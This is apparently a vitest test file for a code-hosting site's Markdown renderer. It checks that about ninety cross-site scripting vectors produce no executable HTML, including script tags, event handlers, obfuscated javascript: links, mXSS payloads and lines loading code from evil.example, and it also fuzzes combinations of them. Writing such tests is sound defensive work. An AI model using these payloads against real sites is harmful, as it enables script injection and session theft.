/** Known attacks against sites that show Markdown of others. After rendering, a parser must find nothing executable. */
import fc from 'fast-check';
import { fromHtml } from 'hast-util-from-html';
import { describe, expect, test } from 'vitest';
import { linkifyMessage, renderPlainText } from '../../../src/render/document/message.js';
import { renderMarkdown, type MarkdownOptions } from '../../../src/render/document/markdown.js';
import { elementsOf } from '../html-text.js';

const OPTIONS: MarkdownOptions = {
  links: {
    repository: '/o/r',
    fileBase: '/o/r/src/branch/main/',
    fileRoot: '/o/r/src/branch/main/',
    rawBase: '/o/r/raw/branch/main/',
    rawRoot: '/o/r/raw/branch/main/',
  },
  labels: {
    alerts: { note: 'N', tip: 'T', important: 'I', warning: 'W', caution: 'C' },
    footnotes: 'F',
    footnoteBack: 'B {0}',
    tasks: { done: 'D', open: 'O' },
  },
};

const ALLOWED_ELEMENTS = new Set(
  (
    'a b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img input ins kbd li ol p picture pre q rp rt ruby s samp section source span strike strong ' +
    'sub summary sup table tbody td tfoot th thead tr tt ul var'
  ).split(' '),
);
const OUR_CLASS =
  /^(?:hljs(?:-[\w-]+)?|language-[\w+#.-]+|[a-z]+_|anchor|table-scroll|code-block|plain-text|front-matter|markdown-alert(?:-\w+)?|task-list-item(?:-checkbox)?|contains-task-list|footnotes|sr-only|commit-id|external-image)$/;
const SAFE_ADDRESS = /^(?:https?:\/\/|mailto:|ircs?:|xmpp:|#|\/o\/r\/)/i;

function expectHarmless(html: string): void {
  const tree = fromHtml(html, { fragment: true });
  for (const element of elementsOf(tree)) {
    expect(ALLOWED_ELEMENTS).toContain(element.tagName);
    for (const [name, value] of Object.entries(element.properties)) {
      expect(name).not.toMatch(
        /^on|^style$|^srcDoc$|^formAction$|^action$|^xLink|^background$|^target$|^accessKey$|^data(?!Footnote|Level$)/i,
      );
      if (name === 'href' || name === 'src') expect(String(value)).toMatch(SAFE_ADDRESS);
      if (name === 'srcSet') for (const candidate of String(value).split(', ')) expect(candidate).toMatch(SAFE_ADDRESS);
      if (name === 'id' || name === 'name') expect(String(value)).toMatch(/^user-content-/);
      if (name === 'className') for (const one of value as string[]) expect(one).toMatch(OUR_CLASS);
      if (name === 'type') expect([element.tagName, value]).toEqual(['input', 'checkbox']);
    }
  }
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\n=alert(1)//',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>body{display:none}</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<div class="navbar modal" id="location" name="cookie">x</div>',
  '<a id=location href=#x><img name=cookie id=body></a><form id=__proto__>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href="data:text/html;base64,PHNjcmlwdD4=">y</a><a href="blob:x">z</a>',
  '<a href="//evil.example" target=_blank ping="//evil.example">x</a>',
  '<a href="\\\\evil.example\\x">x</a>',
  '[x](javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](JAVASCRIPT:alert(1) "onmouseover=alert(1)")',
  '[x](  javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x]( "onclick=alert(1)")',
  '[x](https://e.org/"onmouseover="alert(1))',
  '[x]: javascript:alert(1)\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](y)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](x"onerror="alert(1).png)',
  '[![x](javascript:1)](javascript:2)',
  '```"><script>alert(1)</script>\ncode\n```',
  '```html\n<script>alert(1)</script>\n```',
  '``` c" onclick="alert(1)\nx\n```',
  '`<script>alert(1)</script>`',
  '# <img src=x onerror=alert(1)> {#x onclick=alert(1)}',
  '# "><script>alert(1)</script>',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> [!NOTE]\n> <script>alert(1)</script>',
  '> [!NOTE" onclick="alert(1)]\n> x',
  'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
  'x[^a]\n\n[^a]: <img src=x onerror=alert(1)>',
  '---\n"><script>alert(1)</script>: x\n---\n',
  '---\ntitle: <script>alert(1)</script>\n---\n',
  '<!-- --!><script>alert(1)</script> -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template><slot onslotchange=alert(1)>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)><input type=image src=x><input type=text name=q>',
  '<button formaction=javascript:alert(1)>x</button><select onchange=alert(1)><option>x</select>',
  '<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><html onclick=alert(1)>',
  '<picture><source srcset="javascript:alert(1) 1x, x.png 2x"><img srcset="javascript:alert(1)" src=x></picture>',
  '<table background="javascript:alert(1)"><td background=x onclick=alert(1)>x</table>',
  '<td><script>alert(1)</script></td><li class="hljs" data-x=1>x',
  '<section data-footnotes class="modal"><h2 class="sr-only x">x</h2></section>',
  '<pre><code class="language-c x" onclick=alert(1)>int x;</code></pre>',
  '<pre><code class="language-&quot;&gt;&lt;script&gt;">x</code></pre>',
  '<span class="hljs-keyword">x</span><p class="markdown-alert-title">x</p>',
  '<img src="https://e.org/x.png" srcset="x 1x" usemap="#m" longdesc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<q cite="javascript:alert(1)">x</q><blockquote cite="javascript:alert(1)">x</blockquote>',
  '</div></main></body><script>alert(1)</script>',
  '\u2028<script>alert(1)</script>\0<scr\0ipt>alert(1)</scr\0ipt>',
  '<a href="https://e.org" accesskey="x" tabindex="1" contenteditable draggable is="x-y">x</a>',
];

describe('hostile Markdown and HTML', () => {
  test.each(VECTORS)('%j executes nothing', (source) => {
    const { html, fallback } = renderMarkdown(source, OPTIONS);
    expectHarmless(html);
    expect(fallback).toBeUndefined();
    // The result must also be harmless after a browser has parsed it inside a page and inside a table.
    expectHarmless(`<div>${html}</div><p>after</p>`);
    expectHarmless(renderPlainText(source));
    expectHarmless(linkifyMessage(source, { commitHref: (id) => `/o/r/commit/${id}` }));
  });

  test('nothing closes the element of the page that contains the document', () => {
    for (const source of VECTORS) {
      const tree = fromHtml(`<main>${renderMarkdown(source, OPTIONS).html}</main><footer></footer>`, {
        fragment: true,
      });
      expect(tree.children.map((child) => (child.type === 'element' ? child.tagName : child.type))).toEqual([
        'main',
        'footer',
      ]);
    }
  });

  test('random combinations of attack fragments execute nothing', () => {
    const fragments = VECTORS.flatMap((vector) => vector.split(/(?<=[<>"'`=\s])/));
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...fragments, '\n\n', '> ', '- ', '| ', '```\n', '<', '</', '-->', '&#'), {
          maxLength: 25,
        }),
        (parts) => {
          expectHarmless(renderMarkdown(parts.join(''), OPTIONS).html);
        },
      ),
      { numRuns: 800 },
    );
  });
});
